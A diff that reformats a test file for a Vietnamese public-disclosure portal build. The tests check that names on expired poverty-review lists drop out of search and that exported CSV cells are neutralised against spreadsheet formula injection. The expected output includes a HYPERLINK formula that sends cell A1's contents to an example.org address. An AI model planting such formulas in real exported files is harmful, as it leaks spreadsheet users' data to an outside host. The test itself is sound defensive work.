@@ -33,7 +33,13 @@ const content = path.join(work, 'content');
 afterAll(() => rmSync(work, { recursive: true, force: true }));
 
 // A list whose posting period ended before the build day, with people named in its body and a posted file.
-const expired = { id: 'danh-sach-da-het-han-niem-yet', name: 'Trịnh Văn Quý', inBody: 'Lưu Thị Nguyệt', email: 'luu.thi.nguyet@minhbach.hungyen.example', file: 'poverty-reviews/danh-sach-da-het-han-niem-yet.csv' };
+const expired = {
+  id: 'danh-sach-da-het-han-niem-yet',
+  name: 'Trịnh Văn Quý',
+  inBody: 'Lưu Thị Nguyệt',
+  email: 'luu.thi.nguyet@minhbach.hungyen.example',
+  file: 'poverty-reviews/danh-sach-da-het-han-niem-yet.csv',
+};
 cpSync('content', content, { recursive: true });
 writeFileSync(path.join(content, 'files', expired.file), `Chủ hộ,Thôn\n${expired.name},Tổ dân phố số 1\n`);
 writeFileSync(
@@ -103,7 +109,14 @@ Dự toán mẫu.
 );
 
 const result = spawnSync(process.execPath, ['scripts/build.ts'], {
-  env: { ...process.env, PORTAL_CONTENT_DIR: content, PORTAL_DIST_DIR: dist, PORTAL_BUILD_DATE: during, CI: '1', ASTRO_TELEMETRY_DISABLED: '1' },
+  env: {
+    ...process.env,
+    PORTAL_CONTENT_DIR: content,
+    PORTAL_DIST_DIR: dist,
+    PORTAL_BUILD_DATE: during,
+    CI: '1',
+    ASTRO_TELEMETRY_DISABLED: '1',
+  },
   encoding: 'utf8',
   timeout: 300_000,
 });
@@ -156,7 +169,10 @@ describe('a list whose posting period ended before the build day', () => {
     // The page itself is indexed, by what names nobody.
     expect((await search('cận nghèo phát sinh Minh Khai')).some((h) => h.url.includes(expired.id))).toBe(true);
     for (const query of [expired.inBody, 'Nguyệt', expired.name]) {
-      expect((await search(query)).filter((h) => h.url.includes(expired.id)), query).toEqual([]);
+      expect(
+        (await search(query)).filter((h) => h.url.includes(expired.id)),
+        query,
+      ).toEqual([]);
     }
   });
 
@@ -181,6 +197,8 @@ describe('CSV cells a spreadsheet would run as formulas', () => {
     const budget = readFileSync(path.join(dist, 'cong-khai', 'ngan-sach', 'du-toan-dong-nhu-cong-thuc.csv'), 'utf8');
     expect(budget).toContain(`"'+Tổng thu",1,,"'-Thu khác"`);
     expect(budget).toContain(`"'=1+2"`);
-    expect(readFileSync(path.join(dist, 'du-lieu-mo', 'thong-bao.csv'), 'utf8')).toContain(`"'=HYPERLINK(""https://example.org/?d=""&A1,""Bấm vào đây"")"`);
+    expect(readFileSync(path.join(dist, 'du-lieu-mo', 'thong-bao.csv'), 'utf8')).toContain(
+      `"'=HYPERLINK(""https://example.org/?d=""&A1,""Bấm vào đây"")"`,
+    );
   });
 });
